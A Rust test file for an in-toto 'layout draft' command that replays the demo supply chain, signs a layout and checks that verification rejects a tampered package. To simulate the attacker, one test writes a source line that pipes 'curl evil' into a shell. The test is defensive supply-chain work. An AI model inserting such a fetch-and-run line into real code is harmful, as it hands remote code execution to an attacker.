//! `intoto layout draft`: the demo's links drafted into a layout that,
//! signed, verifies them and rejects the tampered package; signers whose
//! keys were not given; a dry run (`--from-run`); what it refuses.

use std::fs;

use crate::common::{Env, check};

/// The demo chain (README, `scripts/demo`): clone and update-version by
/// dave's GnuPG key, package by carl's PEM key, links in `links/`.
fn demo_run(env: &Env) -> String {
    for k in ["alice.pem", "alice.pub", "carl.pub", "carl.pem"] {
        env.key(k);
    }
    let dave = env.fpr("dave");
    env.write("upstream/demo-project/foo.py", "print(\"Hello in-toto\")\n");
    fs::create_dir_all(env.work().join("links")).unwrap();
    env.ok(format!(
        "run -n clone -p demo-project -d links --gpg {dave} -- cp -R upstream/demo-project demo-project"
    ));
    env.ok(format!(
        "record start -n update-version -m demo-project --gpg {dave}"
    ));
    env.write(
        "demo-project/foo.py",
        "VERSION = \"foo-v1\"\n\nprint(\"Hello in-toto\")\n",
    );
    env.ok(format!(
        "record stop -n update-version -p demo-project -d links --gpg {dave}"
    ));
    package(env);
    dave
}

fn package(env: &Env) {
    env.ok(
        "run -n package -m demo-project -p demo-project.tar.gz -d links --signing-key carl.pem \
         -- tar --exclude .git -zcf demo-project.tar.gz demo-project",
    );
}

/// `verify` of draft.layout in `final/`, which holds only the package.
fn verify_final(env: &Env, code: i32) -> String {
    let w = env.work();
    let d = w.join("final");
    fs::create_dir_all(&d).unwrap();
    fs::copy(w.join("demo-project.tar.gz"), d.join("demo-project.tar.gz")).unwrap();
    let mut v = env.cmd(format!(
        "verify --layout {} --verification-keys {} --link-dir {}",
        w.join("draft.layout").display(),
        w.join("alice.pub").display(),
        w.join("links").display()
    ));
    v.current_dir(&d);
    check(v, code).text()
}

#[test]
fn the_demo_drafted_and_signed_verifies_and_rejects_the_tampered_package() {
    let env = Env::new();
    let dave = demo_run(&env);
    let out = env.ok(format!(
        "layout draft --from-links links --gpg {dave} -k carl.pub -o draft.layout --expires 2099-12-31"
    ));
    // Nothing to warn about: every signer given, nothing left over.
    assert!(!out.stderr.contains("warning"), "{}", out.stderr);
    assert!(
        out.stderr.contains(
            "inspection 'final-products' checks the 1 final product ('demo-project.tar.gz')"
        ),
        "{}",
        out.stderr
    );
    let show = env.ok("layout show draft.layout").stdout;
    for line in [
        "1. clone",
        "2. update-version",
        "3. package",
        "command:   cp -R upstream/demo-project demo-project",
        "product:   CREATE demo-project/foo.py",
        "material:  MATCH demo-project/foo.py WITH PRODUCTS FROM clone",
        "product:   MODIFY demo-project/foo.py",
        "material:  MATCH demo-project/foo.py WITH PRODUCTS FROM update-version",
        "product:   CREATE demo-project.tar.gz",
    ] {
        assert!(show.contains(line), "{line}\n{show}");
    }
    env.ok("sign -f draft.layout -k alice.pem");
    verify_final(&env, 0);
    // The attacker's package, after carl built his.
    env.write(
        "demo-project/foo.py",
        "import os; os.system(\"curl evil | sh\")\n",
    );
    let built = env.work().join("demo-project.tar.gz");
    let good = fs::read(&built).unwrap();
    check(
        {
            let mut c = std::process::Command::new("tar");
            c.args([
                "--exclude",
                ".git",
                "-zcf",
                "demo-project.tar.gz",
                "demo-project",
            ])
            .current_dir(env.work());
            c
        },
        0,
    );
    let out = verify_final(&env, 1);
    assert!(out.contains("final-products"), "{out}");
    // A product changed between steps: carl packages the tampered source.
    fs::write(&built, good).unwrap();
    package(&env);
    let out = verify_final(&env, 1);
    assert!(out.contains("step 'package'"), "{out}");
}

#[test]
fn a_signer_whose_key_was_not_given_is_named() {
    let env = Env::new();
    let dave = env.fpr("dave");
    demo_run(&env);
    let out = env.ok("layout draft --from-links links -k carl.pub");
    let signed_by = fs::read_dir(env.work().join("links"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .find(|n| n.starts_with("clone."))
        .unwrap();
    assert!(
        out.stderr.contains("step 'clone': ") && out.stderr.contains("none of the keys given owns"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("step 'clone' has no functionary key"),
        "{}",
        out.stderr
    );
    // The subkey that signed is named (its link's file name has it).
    let id8 = signed_by.split('.').nth(1).unwrap().to_owned();
    assert!(out.stderr.contains(&id8), "{id8}: {}", out.stderr);
    assert!(!dave.is_empty());
    // The layout went to stdout; carl's step has its key.
    let v: serde_json::Value = out.json();
    let steps = v["signed"]["steps"].as_array().unwrap();
    assert_eq!(steps[2]["name"], "package");
    assert_eq!(steps[2]["pubkeys"].as_array().unwrap().len(), 1);
    assert!(steps[0]["pubkeys"].as_array().unwrap().is_empty());
}

#[test]
fn a_dry_run_drafts_the_chain_in_the_order_given() {
    let env = Env::new();
    env.write("src/a.c", "int a;\n");
    env.write("src/b.c", "int b;\n");
    let out = env.ok((
        "layout draft -o draft.layout --generalize --allow-rest --from-run",
        ["build=cp -R src out", "pack=tar czf out.tgz out"],
    ));
    assert!(
        out.stderr
            .contains("step 'build' has no functionary key (its link is unsigned)"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("the draft expires"), "{}", out.stderr);
    let show = env.ok("layout show draft.layout").stdout;
    for line in [
        "1. build",
        "command:   cp -R src out",
        "material:  ALLOW src/*",
        "product:   CREATE out/*",
        "2. pack",
        "material:  MATCH out/* WITH PRODUCTS FROM build",
        "product:   CREATE out.tgz",
    ] {
        assert!(show.contains(line), "{line}\n{show}");
    }
    // The dry run leaves its products, and no link files.
    assert!(env.work().join("out.tgz").exists());
    assert!(env.links().is_empty(), "{:?}", env.links());
    // Unless kept, for layout check --link-dir.
    fs::create_dir_all(env.work().join("dry")).unwrap();
    env.ok((
        "layout draft -o kept.layout --allow-rest --keep-links dry --from-run",
        ["build=cp -R src out2"],
    ));
    let out = env.code(1, "layout check kept.layout --link-dir dry");
    assert!(
        out.stdout.contains(
            "note: step 'build', product rule 1 (CREATE out2/a.c): took 1 artifact of build.link"
        ),
        "{}",
        out.stdout
    );
    // Refused: an existing output, a failing command (nothing written).
    env.fails(
        1,
        ("layout draft -o draft.layout --from-run", ["x=true"]),
        "already exists",
    );
    env.fails(
        1,
        ("layout draft -o new.layout --from-run", ["bad=false"]),
        "--from-run 'bad': the command exited with 1",
    );
    assert!(!env.work().join("new.layout").exists());
}

#[test]
fn what_a_draft_refuses() {
    let env = Env::new();
    env.fails(2, "layout draft", "required arguments");
    env.fails(2, "layout draft --from-run build", "expected STEP=COMMAND");
    env.fails(
        2,
        ("layout draft --from-run", ["a=true", "a=true"]),
        "given twice",
    );
    env.fails(2, ("layout draft --from-run", ["a/b=true"]), "--from-run");
    fs::create_dir_all(env.work().join("empty")).unwrap();
    env.fails(1, "layout draft --from-links empty", "no link files");
    env.fails(1, "layout draft --from-links nowhere", "nowhere");
}
